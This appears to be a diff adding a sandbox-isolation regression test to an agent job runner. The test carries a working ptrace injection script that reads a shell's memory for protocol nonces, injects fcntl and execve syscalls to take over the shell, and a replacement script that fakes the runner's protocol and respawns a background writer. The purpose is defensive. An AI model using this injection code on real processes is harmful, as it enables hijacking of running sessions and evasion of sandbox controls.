@@ -66,8 +66,86 @@ tk() { python3 /tmp/gut.py 0 & }
 export -f tk
 `;
 
+
+// A real ptrace injection (the issue's reproduction): while the setup shell waits for its last
+// command, a process of setup's attaches to it (same uid; Docker's default seccomp allows ptrace),
+// reads the pending command's nonce from its memory, makes the shell's saved stdin inheritable
+// (an injected fcntl) and makes it execve TAKEN_SH: a shell, the same pid, that ends that command
+// as patchbay's protocol expects, serves every later command, and from two seconds on keeps a
+// writer running. x86_64 only.
+const INJECT_PY = `import ctypes, os, re, struct, sys, time
+shell = int(sys.argv[1])
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
+def nonces():
+    # Candidates for the nonce of the shell's command (32 hex digits, a word of its own in its
+    # memory): the current one's end marker is due; the others' are only output.
+    found = []
+    with open("/proc/%d/maps" % shell) as maps, open("/proc/%d/mem" % shell, "rb", 0) as mem:
+        for line in maps:
+            f = line.split()
+            if "rw" not in f[1] or len(f) > 5 and f[5].startswith("/"): continue
+            lo, hi = (int(x, 16) for x in f[0].split("-"))
+            try:
+                mem.seek(lo); data = mem.read(hi - lo)
+            except OSError: continue
+            for m in re.finditer(rb"(?<![0-9a-zA-Z])([0-9a-f]{32})\\0", data):
+                if m.group(1) not in found: found.append(m.group(1))
+    return found
+def link(fd):
+    return os.readlink("/proc/%d/fd/%s" % (shell, fd))
+while open("/proc/%d/syscall" % shell).read().split()[0] != "61": time.sleep(0.001)  # wait4: its command runs
+with open("/tmp/nonces", "wb") as f: f.write(b"".join(n + b"\\n" for n in nonces()))
+# While its command runs, the shell's own stdin (the worker's pipe) is a close-on-exec copy: the
+# injected code makes it inheritable, and the new program takes it as its stdin.
+saved = min(int(fd) for fd in os.listdir("/proc/%d/fd" % shell) if int(fd) > 2 and link(fd).startswith("pipe:") and link(fd) != link(1))
+with open("/tmp/stdin-fd", "w") as f: f.write(str(saved))
+# Where ptrace is denied (a seccomp profile), a plain writer that outlives setup stands in.
+if libc.ptrace(16, shell, None, None) != 0: os.execvp("python3", ["python3", "/tmp/gut.py", "1.5"])
+os.waitpid(shell, 0x40000000)
+r = Regs()
+libc.ptrace(12, shell, None, ctypes.byref(r))
+at = r.rip - 2  # the syscall instruction it stopped after
+if libc.ptrace(1, shell, ctypes.c_void_p(at), None) & 0xffff != 0x050f: sys.exit("not at a syscall")
+def regs(nr, a, b, c):
+    libc.ptrace(12, shell, None, ctypes.byref(r))
+    r.rip, r.rax, r.orig_rax, r.rdi, r.rsi, r.rdx = at, nr, (1 << 64) - 1, a, b, c
+    libc.ptrace(13, shell, None, ctypes.byref(r))
+regs(72, saved, 2, 0)  # fcntl(saved, F_SETFD, 0), run to its exit
+for _ in range(2):
+    libc.ptrace(24, shell, None, None); os.waitpid(shell, 0x40000000)
+base = (r.rsp - 65536) & ~0xf
+data, addrs = b"", []
+for s in (b"/bin/bash", b"bash", b"--noprofile", b"--norc", b"/tmp/taken.sh"):
+    addrs.append(base + len(data)); data += s + b"\\0"
+data += b"\\0" * (-len(data) % 8)
+argv = base + len(data); data += struct.pack("<5Q", *addrs[1:], 0)
+envp = base + len(data); data += struct.pack("<Q", 0)
+for i in range(0, len(data), 8):
+    libc.ptrace(5, shell, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("<Q", data[i:i + 8])[0]))
+regs(59, addrs[0], argv, envp)  # execve("/bin/bash", [..., "/tmp/taken.sh"], [])
+libc.ptrace(17, shell, None, None)
+`;
+const TAKEN_SH = `echo "taken over: $$" > /tmp/taken
+exec 0<&"$(< /tmp/stdin-fd)" 2>&1
+exec {__pb_fd}>&1
+__pb_pre() { IFS= read -r -d '' __pb_cmd; builtin printf 'PBSTART%s:\\n' "$1"; }
+__pb_exec() { eval "$__pb_cmd"; }
+__pb_post() { builtin printf '\\nPBEND%s:%d\\n' "$1" "$2"; }
+while IFS= read -r n; do builtin printf '\\nPBEND%s:0\\n' "$n"; done < /tmp/nonces
+taken=$SECONDS w= line=
+while :; do
+  if [ $((SECONDS - taken)) -ge 2 ] && { [ -z "$w" ] || ! kill -0 "$w" 2>/dev/null; }; then python3 /tmp/gut.py 0 </dev/null >/dev/null 2>&1 & w=$!; fi
+  if IFS= read -r -t 0.05 part; then eval "$line$part"; line=; elif [ $? -gt 128 ]; then line+=$part; else exit 0; fi
+done
+`;
+
 const ATTACKS: Record<string, string[]> = {
-  // A child of setup that waits for setup to end, then writes (what a shell taken over by ptrace does).
+  ptrace: [WRITE_GUT, `cat > /tmp/inject.py <<'EOF'\n${INJECT_PY}\nEOF`, `cat > /tmp/taken.sh <<'EOF'\n${TAKEN_SH}\nEOF`, "python3 /tmp/inject.py $$ </dev/null >/dev/null 2>&1 & sleep 2"],
+  // A child of setup that waits for setup to end, then writes.
   child: [WRITE_GUT, "(python3 /tmp/gut.py 1.5 </dev/null >/dev/null 2>&1 &)"],
   takeover: [WRITE_GUT, `cat > /tmp/takeover.sh <<'EOF'\n${TAKEOVER_SH}\nEOF`, "source /tmp/takeover.sh"],
   daemon: [WRITE_GUT, `cat > /tmp/daemon.py <<'EOF'\n${DAEMON_PY}\nEOF`, "python3 /tmp/daemon.py"],
@@ -77,7 +155,7 @@ const ATTACKS: Record<string, string[]> = {
 
 // The agent: waits past every attack's arming, looks, writes its one file, and ends.
 const AGENT: Reply[] = [
-  bash("sleep 3; ls /workspace; echo \"TAKEOVER=[${TAKEOVER-}] BASH_ENV=[${BASH_ENV-}] trap=[$(trap -p DEBUG)] tk=[$(declare -F tk)]\""),
+  bash("sleep 3; ls /workspace; cat /tmp/taken 2>/dev/null; echo \"TAKEOVER=[${TAKEOVER-}] BASH_ENV=[${BASH_ENV-}] trap=[$(trap -p DEBUG)] tk=[$(declare -F tk)]\""),
   bash("cd /workspace && echo agent > NOTES.md && sleep 1 && ls /workspace"),
   reply(text("Done.")),
 ];
@@ -114,7 +192,7 @@ describe("setup leaves nothing running into the baseline, the snapshot or the ag
 
   // The job is exactly the agent's: its one file in the patch, and verify failing on the real bug.
   function onlyTheAgents({ result, outputs }: { result: JobResult; outputs: string[] }) {
-    expect({ status: result.status, filesChanged: result.filesChanged }).toEqual({ status: "verify_failed", filesChanged: ["NOTES.md"] });
+    expect({ status: result.status, filesChanged: result.filesChanged, error: result.status === "failed" ? result.error : undefined }).toEqual({ status: "verify_failed", filesChanged: ["NOTES.md"], error: undefined });
     expect(result.error).toMatch(/^verify failed \(exit 1\)/);
     expect(outputs[1]).not.toMatch(/src/); // nothing wrote after setup ended
     expect(result.filesChanged).toEqual(["NOTES.md"]);
@@ -122,6 +200,12 @@ describe("setup leaves nothing running into the baseline, the snapshot or the ag
     expect(result).toMatchObject({ status: "verify_failed", verified: false });
     expect(result.verify?.outputTail).toMatch(/FAILED \(failures=1\)/);
   }
+
+  it("setup's shell taken over by ptrace (execve injected into it, the protocol served on): killed like any process of the uid", async () => {
+    const r = await run("attack=ptrace", ATTACKS.ptrace!);
+    onlyTheAgents(r);
+    expect(r.outputs[0]).toMatch(/taken over: \d+/); // the injection ran
+  });
 
   it.each(["child", "daemon", "renamed", "setsid"])("setup leaves a %s writer: killed with everything of the agent's uid before the baseline", async (attack) => {
     onlyTheAgents(await run(`attack=${attack}`, ATTACKS[attack]!));
